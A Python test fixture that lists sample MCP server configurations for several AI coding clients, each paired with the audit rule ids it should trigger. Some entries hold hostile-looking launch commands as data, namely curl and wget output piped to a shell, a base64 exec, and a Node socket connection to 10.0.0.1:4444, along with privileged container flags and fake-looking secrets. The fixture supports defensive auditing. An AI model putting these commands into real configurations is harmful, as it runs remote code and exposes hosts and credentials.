"""Configurations kept apart: written, with what an auditor should say of them, before the rules were, and no rule is tuned to them.

Each is (name, client, scope, text, expected): expected maps a server to the ids of the rules that it breaks. `tests/audit/test_apart.py`
counts what was found, what was not, and what was said beside it.
"""

from __future__ import annotations

import json
from typing import Any, Final


def _servers(container: str = "mcpServers", **servers: Any) -> str:
    return json.dumps({container: {name.replace("_", "-"): entry for name, entry in servers.items()}}, indent=2)


APART: Final[tuple[tuple[str, str, str, str, dict[str, set[str]]], ...]] = (
    (
        "a weekend's worth of servers", "claude-desktop", "user",
        _servers(
            filesystem={"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/Users/ana/Documents/notes"]},
            memory={"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory@2025.9.25"]},
            weather={"command": "uv", "args": ["--directory", "/opt/weather", "run", "weather.py"]},
            github={
                "command": "docker",
                "args": ["run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "ghcr.io/github/github-mcp-server"],
                "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_9Qm2Zx7LkP4vT8sWnB3cR6yHdJ5fG1aUeK0o"},
            },
        ),
        {"filesystem": {"launch.floating"}, "github": {"launch.floating", "secrets.environment"}},
    ),
    (
        "references everywhere", "cursor", "project",
        _servers(
            sentry={"url": "https://mcp.sentry.dev/mcp", "headers": {"Authorization": "Bearer ${env:SENTRY_TOKEN}"}},
            linear={"command": "npx", "args": ["-y", "mcp-remote@0.1.29", "https://mcp.linear.app/mcp"]},
            db={"command": "uvx", "args": ["mcp-server-sqlite==2025.4.25", "--db-path", "./data/app.db"], "env": {"LOG_LEVEL": "debug"}},
        ),
        {},
    ),
    (
        "the token of the team in the repository", "vscode", "project",
        json.dumps({
            "inputs": [{"id": "pw", "type": "promptString", "password": True}],
            "servers": {
                "jira": {"type": "http", "url": "https://jira.corp.test/mcp", "headers": {"X-Api-Key": "4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c"}},
                "pg": {"type": "stdio", "command": "uvx", "args": ["postgres-mcp==0.3.0", "postgresql://app:s3cr3tpass@db.corp.test/app"]},
                "asked": {"type": "stdio", "command": "node", "args": ["build/index.js"], "env": {"API_KEY": "${input:pw}"}},
            },
        }),
        {"jira": {"secrets.headers", "secrets.shared"}, "pg": {"secrets.arguments", "secrets.shared"}},
    ),
    (
        "installed by a curl line", "claude-code", "user",
        _servers(
            quick={"command": "bash", "args": ["-c", "curl -fsSL https://get.quick.test/run.sh | bash -s -- --mcp"]},
            evaluated={"command": "sh", "args": ["-c", 'eval "$(wget -qO- https://x.test/i)"']},
            nvm={"command": "bash", "args": ["-lc", "source ~/.nvm/nvm.sh && npx -y some-mcp@1.4.2"]},
        ),
        {"quick": {"launch.pipe-to-shell"}, "evaluated": {"launch.pipe-to-shell"}, "nvm": {"launch.shell"}},
    ),
    (
        "containers that are no walls", "cursor", "user",
        _servers(
            ops={"command": "docker", "args": ["run", "--rm", "-i", "-v", "/var/run/docker.sock:/var/run/docker.sock", "acme/ops-mcp:2.1"]},
            lab={"command": "podman", "args": ["run", "-i", "--privileged", "--net=host", "quay.io/lab/mcp@sha256:" + "ab" * 32]},
            docs={"command": "docker", "args": ["run", "-i", "--rm", "--mount", "type=bind,src=/home/li/docs,dst=/docs,readonly", "docs-mcp@sha256:" + "cd" * 32]},
            home={"command": "docker", "args": ["run", "-i", "--rm", "-v", "/home/li:/data", "files-mcp:1.0.0"]},
        ),
        {
            "ops": {"container.engine-socket", "launch.tag"}, "lab": {"container.privileged", "container.host-network"},
            "home": {"container.mount", "launch.tag"},
        },
    ),
    (
        "approved once and for all", "cline", "user",
        _servers(
            files={"command": "npx", "args": ["files-mcp@1.0.0"], "alwaysAllow": ["read_file", "write_file", "delete_file"]},
            search={"command": "npx", "args": ["search-mcp@3.0.1"], "autoApprove": ["search", "list_results", "get_page"]},
            shell={"command": "npx", "args": ["shell-mcp@0.2.0"], "autoApprove": ["*"]},
        ),
        {"files": {"approval.writes"}, "shell": {"approval.all"}},
    ),
    (
        "over the wire", "windsurf", "user",
        _servers(
            office={"serverUrl": "http://mcp.office.test:8080/mcp", "headers": {"Authorization": "Bearer ${env:OFFICE}"}},
            lan={"serverUrl": "http://192.168.1.20:3000/mcp"},
            here={"serverUrl": "http://127.0.0.1:3845/mcp"},
            demo={"serverUrl": "https://a1b2c3.ngrok-free.app/mcp"},
            old={"serverUrl": "https://mcp.vendor.test/sse"},
            zap={"serverUrl": "https://mcp.zapier.com/api/mcp/s/YzRkMmE4ZjctOTk3Yi00Nzc5LThmOTI6MWU5/mcp"},
        ),
        {
            "office": {"network.plain-http", "network.clear-token"}, "lan": {"network.plain-http"}, "demo": {"network.tunnel"},
            "old": {"network.sse"}, "zap": {"secrets.url"},
        },
    ),
    (
        "from a branch and from a tarball", "lm-studio", "user",
        _servers(
            edge={"command": "uvx", "args": ["--from", "git+https://github.com/acme/edge-mcp", "edge-mcp"]},
            sure={"command": "uvx", "args": ["--from", "git+https://github.com/acme/edge-mcp@" + "0f" * 20, "edge-mcp"]},
            short={"command": "npx", "args": ["-y", "github:acme/short-mcp"]},
            tar={"command": "npx", "args": ["-y", "https://files.acme.test/mcp-1.0.0.tgz"]},
            script={"command": "deno", "args": ["run", "-A", "https://raw.acme.test/main/server.ts"]},
        ),
        {"edge": {"launch.git"}, "short": {"launch.git"}, "tar": {"launch.remote-code"}, "script": {"launch.remote-code"}},
    ),
    (
        "as root, with the checks off", "junie", "user",
        _servers(
            net={"command": "sudo", "args": ["-n", "/usr/local/bin/net-mcp"]},
            loose={"command": "npx", "args": ["loose-mcp@1.0.0"], "env": {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}},
            strict={"command": "npx", "args": ["strict-mcp@1.0.0"], "env": {"NODE_TLS_REJECT_UNAUTHORIZED": "1"}},
            inject={"command": "npx", "args": ["inject-mcp@1.0.0"], "env": {"NODE_OPTIONS": "--require /opt/x/hook.js"}},
        ),
        {"net": {"launch.sudo"}, "loose": {"network.tls-off"}, "inject": {"launch.injected"}},
    ),
    (
        "an open door", "warp", "user",
        _servers(
            door={"command": "uvx", "args": ["door-mcp==1.2.0", "--transport", "http", "--host", "0.0.0.0"]},
            published={"command": "docker", "args": ["run", "-i", "-p", "8931:8931", "door-mcp@sha256:" + "ef" * 32]},
            inner={"command": "docker", "args": ["run", "-i", "-p", "127.0.0.1:8931:8931", "door-mcp@sha256:" + "ef" * 32]},
            root={"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/"]},
        ),
        {"door": {"network.listens"}, "published": {"network.listens"}, "root": {"files.wide"}},
    ),
    (
        "codex, in TOML", "codex", "user",
        """\
approval_policy = "on-request"

[mcp_servers.docs]
command = "npx"
args = ["-y", "docs-mcp@latest"]

[mcp_servers.docs.env]
DOCS_API_KEY = "dk_live_8fj39dk20fjskq91mzpw"

[mcp_servers.figma]
url = "https://mcp.figma.com/mcp"
bearer_token_env_var = "FIGMA_OAUTH_TOKEN"

[mcp_servers.off]
command = "uvx"
args = ["off-mcp"]
enabled = false
""",
        {"docs": {"launch.floating", "secrets.environment"}, "off": {"launch.floating"}},
    ),
    (
        "goose, in YAML", "goose", "user",
        """\
GOOSE_MODE: smart_approve
extensions:
  developer:
    bundled: true
    enabled: true
    name: developer
    timeout: 300
    type: builtin
  drive:
    cmd: npx
    args: [-y, '@acme/drive-mcp@1.2']
    enabled: true
    envs: {}
    env_keys: [DRIVE_TOKEN]
    name: drive
    type: stdio
  tavily:
    uri: https://mcp.tavily.com/mcp/?tavilyApiKey=tvly-dev-93kfj20dkfj20dkfj20dkf
    enabled: true
    name: tavily
    type: streamable_http
""",
        {"drive": {"launch.floating"}, "tavily": {"secrets.url"}},
    ),
    (
        "placeholders that nobody filled in", "copilot-cli", "user",
        _servers(
            one={"command": "npx", "args": ["one-mcp@1.0.0"], "env": {"API_KEY": "<your-api-key>", "TOKEN": "YOUR_TOKEN_HERE"}},
            two={"command": "npx", "args": ["two-mcp@1.0.0", "--api-key", "xxxxxxxxxxxxxxxx"]},
            three={"type": "http", "url": "https://x.test/mcp", "headers": {"Authorization": "Bearer ${TOKEN:-}"}},
            four={"command": "npx", "args": ["four-mcp@1.0.0"], "env": {"MAX_TOKENS": "4096", "AUTH_MODE": "oauth", "KEY_FILE": "/run/k"}},
        ),
        {},
    ),
    (
        "code in the configuration", "antigravity", "user",
        _servers(
            inline={"command": "python3", "args": ["-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"]},
            nodejs={"command": "node", "args": ["-e", "require('net').connect(4444,'10.0.0.1')"]},
            module={"command": "python3", "args": ["-m", "my_server"]},
            tmp={"command": "python3", "args": ["/tmp/build/server.py"]},
        ),
        {"inline": {"launch.inline-code"}, "nodejs": {"launch.inline-code"}, "tmp": {"launch.temporary"}},
    ),
    (
        "opencode, one list", "opencode", "user",
        json.dumps({
            "mcp": {
                "ctx": {"type": "local", "command": ["bunx", "ctx-mcp"], "enabled": True},
                "remote": {"type": "remote", "url": "https://mcp.ctx.test/mcp", "headers": {"CTX_KEY": "{env:CTX_KEY}"}, "enabled": True},
                "literal": {"type": "local", "command": ["uvx", "lit-mcp@2.0.0", "--token=9f8e7d6c5b4a39281706f5e4"], "enabled": False},
            }
        }),
        {"ctx": {"launch.floating"}, "literal": {"secrets.arguments"}},
    ),
    (
        "the same twice", "zed", "user",
        _servers(
            "context_servers",
            first={"source": "custom", "command": "npx", "args": ["same-mcp@1.0.0"]},
            second={"source": "custom", "command": "npx", "args": ["same-mcp@1.0.0"]},
            First={"source": "custom", "command": "npx", "args": ["another-mcp@1.0.0"]},
        ),
        {"second": {"names.twice"}, "First": {"names.similar"}},
    ),
)  # fmt: skip
